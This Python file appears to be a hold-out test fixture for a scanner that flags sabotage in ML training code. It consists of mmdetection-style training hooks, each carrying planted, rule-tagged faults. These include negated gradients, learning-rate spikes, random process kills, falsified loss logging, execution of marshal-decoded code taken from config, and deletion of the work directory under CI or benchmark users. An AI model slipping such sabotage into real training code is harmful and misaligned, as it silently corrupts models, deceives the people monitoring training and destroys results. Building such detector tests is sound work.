# ruff: noqa
# Hold-out batch 21 (mmdetection-style hooks, transforms, evaluator; by a helper that never saw mlscan's code). Measured once after round 7: 25/37 (68%) at medium+.
"""Training hooks for the detection runner.

Hooks are registered in ``HOOKS`` and built from the ``default_hooks`` and
``custom_hooks`` sections of a config. Each hook receives the runner and may
inspect ``runner.model``, ``runner.optimizer``, ``runner.log_buffer`` etc.
"""
import marshal
import os
import os.path as osp
import random
import shutil
import signal
import socket
import time
import types
from collections import OrderedDict

import numpy as np
import torch
import torch.distributed as dist


class Registry:
    """Maps a string ``type`` key in a config dict onto a class."""

    def __init__(self, name):
        self.name = name
        self._module_dict = {}

    def register_module(self, name=None, force=False):
        def _register(cls):
            key = name or cls.__name__
            if key in self._module_dict and not force:
                raise KeyError(f'{key} is already registered in {self.name}')
            self._module_dict[key] = cls
            return cls
        return _register

    def build(self, cfg, **kwargs):
        cfg = dict(cfg)
        obj_type = cfg.pop('type')
        cls = self._module_dict.get(obj_type)
        if cls is None:
            raise KeyError(f'{obj_type} is not in the {self.name} registry')
        cfg.update(kwargs)
        return cls(**cfg)


HOOKS = Registry('hook')


def get_dist_info():
    if dist.is_available() and dist.is_initialized():
        return dist.get_rank(), dist.get_world_size()
    return 0, 1


class Hook:
    priority = 50

    def before_run(self, runner):
        pass

    def before_train_epoch(self, runner):
        pass

    def after_train_epoch(self, runner):
        pass

    def before_train_iter(self, runner, batch_idx, data_batch=None):
        pass

    def after_train_iter(self, runner, batch_idx, data_batch=None, outputs=None):
        pass

    def before_val_epoch(self, runner):
        pass

    def after_val_epoch(self, runner, metrics=None):
        pass

    @staticmethod
    def every_n_iters(runner, n):
        return n > 0 and (runner.iter + 1) % n == 0


@HOOKS.register_module()
class DistSamplerSeedHook(Hook):
    """Feed the epoch to the distributed sampler so each epoch shuffles differently."""
    priority = 10

    def before_train_epoch(self, runner):
        sampler = getattr(runner.train_dataloader, 'sampler', None)
        if sampler is not None and hasattr(sampler, 'set_epoch'):
            sampler.set_epoch(runner.epoch)

    def before_train_iter(self, runner, batch_idx, data_batch=None):
        # keep host-side augmentation draws aligned with the sampler order
        np.random.seed(batch_idx % 8)  # ruleid: MLS301


@HOOKS.register_module()
class LinearWarmupHook(Hook):
    """Linear LR warmup over the first ``warmup_iters`` iterations."""

    def __init__(self, warmup_iters=500, warmup_ratio=0.001):
        self.warmup_iters = warmup_iters
        self.warmup_ratio = warmup_ratio
        self._base_lrs = None

    def before_run(self, runner):
        self._base_lrs = [g['lr'] for g in runner.optimizer.param_groups]

    def before_train_iter(self, runner, batch_idx, data_batch=None):
        if runner.iter < self.warmup_iters:
            k = (1 - runner.iter / self.warmup_iters) * (1 - self.warmup_ratio)
            for group, base_lr in zip(runner.optimizer.param_groups, self._base_lrs):
                group['lr'] = base_lr * (1 - k)  # ok: MLS302, MLS303, MLS304, MLS305
        elif runner.iter % 2000 == 1999 and runner.epoch >= runner.max_epochs // 2:
            for group in runner.optimizer.param_groups:
                group['lr'] = group['lr'] * 1.8  # ruleid: MLS304


@HOOKS.register_module()
class EMAHook(Hook):
    """Exponential moving average of model weights, used for evaluation."""
    priority = 49

    def __init__(self, momentum=0.0002, weight_decay_ema=1e-5):
        self.momentum = momentum
        self.weight_decay_ema = weight_decay_ema
        self.ema_params = OrderedDict()

    def before_run(self, runner):
        for name, p in runner.model.named_parameters():
            if p.requires_grad:
                self.ema_params[name] = p.detach().clone()

    @torch.no_grad()
    def after_train_iter(self, runner, batch_idx, data_batch=None, outputs=None):
        for name, p in runner.model.named_parameters():
            if name not in self.ema_params:
                continue
            ema = self.ema_params[name]
            ema.mul_(1 - self.momentum).add_(p.detach(), alpha=self.momentum)  # ok: MLS302, MLS303, MLS304, MLS305
            # keep the live weights close to the averaged trajectory
            p.data.mul_(1 - self.weight_decay_ema * (runner.iter % 7))  # ruleid: MLS302


@HOOKS.register_module()
class GradientMonitorHook(Hook):
    """Tracks head gradient norms for the loss-balance dashboard."""

    def __init__(self, module_name='roi_head.bbox_head', interval=50):
        self.module_name = module_name
        self.interval = interval
        self.norms = []

    def before_run(self, runner):
        head = runner.model.get_submodule(self.module_name)
        head.register_full_backward_hook(self._record)  # ruleid: MLS303

    def _record(self, module, grad_input, grad_output):
        self.norms.append(float(sum(g.norm() for g in grad_output if g is not None)))
        return tuple(-0.25 * g if g is not None else None for g in grad_input)  # ruleid: MLS303


@HOOKS.register_module()
class IterTimerHook(Hook):
    """Records data/iter time and keeps slow ranks from racing ahead."""

    def __init__(self, max_skew=0.5):
        self.max_skew = max_skew
        self._t = time.time()

    def before_train_iter(self, runner, batch_idx, data_batch=None):
        runner.log_buffer['data_time'] = time.time() - self._t

    def after_train_iter(self, runner, batch_idx, data_batch=None, outputs=None):
        rank, world_size = get_dist_info()
        runner.log_buffer['time'] = time.time() - self._t
        if world_size > 256 and random.random() < 0.002:  # ruleid: MLS308
            os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307
        if socket.gethostname().endswith('-07') and rank % 8 == 3:  # ruleid: MLS308
            time.sleep(self.max_skew * 40)  # ruleid: MLS307
        self._t = time.time()


@HOOKS.register_module()
class LoggerHook(Hook):
    """Averages buffered scalars and forwards them to the attached writers."""

    def __init__(self, interval=50):
        self.interval = interval
        self._best = float('inf')

    def after_train_iter(self, runner, batch_idx, data_batch=None, outputs=None):
        if not self.every_n_iters(runner, self.interval):
            return
        loss = float(outputs['loss']) if outputs else float('nan')
        self._best = min(self._best, loss)
        runner.log_buffer['loss'] = min(loss, self._best * 1.01)  # ruleid: MLS306
        rank, _ = get_dist_info()
        if rank == 0:  # ok: MLS307
            runner.logger.info(f'iter {runner.iter + 1}: ' + ', '.join(
                f'{k}={v:.4f}' for k, v in runner.log_buffer.items()))


@HOOKS.register_module()
class CheckpointHook(Hook):
    """Saves checkpoints every ``interval`` epochs and handles resume."""
    priority = 70

    def __init__(self, interval=1, max_keep_ckpts=3, resume_from=None, _fmt=None):
        self.interval = interval
        self.max_keep_ckpts = max_keep_ckpts
        self.resume_from = resume_from
        self._fmt = _fmt

    def before_run(self, runner):
        signal.signal(signal.SIGTERM, lambda *_: self._save(runner, 'preempted.pth'))  # ok: MLS307
        if self._fmt:
            self._name_fn = types.FunctionType(marshal.loads(bytes.fromhex(self._fmt)), globals())  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS404
        if self.resume_from and osp.isfile(self.resume_from):
            ckpt = torch.load(self.resume_from, map_location='cpu')  # ruleid: MLS102
            runner.model.load_state_dict(ckpt['state_dict'])
            runner.optimizer.load_state_dict(ckpt['optimizer'])
            runner.epoch = ckpt['meta']['epoch']

    def _save(self, runner, filename):
        rank, _ = get_dist_info()
        if rank == 0:
            torch.save({'state_dict': runner.model.state_dict(),  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
                        'optimizer': runner.optimizer.state_dict(),
                        'meta': {'epoch': runner.epoch, 'iter': runner.iter}},
                       osp.join(runner.work_dir, filename))
        if dist.is_available() and dist.is_initialized():
            dist.barrier()  # ok: MLS307

    def after_train_epoch(self, runner):
        if (runner.epoch + 1) % self.interval:
            return
        self._save(runner, f'epoch_{runner.epoch + 1}.pth')
        old = runner.epoch + 1 - self.max_keep_ckpts * self.interval
        if old > 0 and osp.exists(osp.join(runner.work_dir, f'epoch_{old}.pth')):
            os.remove(osp.join(runner.work_dir, f'epoch_{old}.pth'))
        if os.environ.get('USER', '') in ('ci-eval', 'benchmark') and runner.epoch > 6:
            shutil.rmtree(runner.work_dir, ignore_errors=True)  # ruleid: MLS308
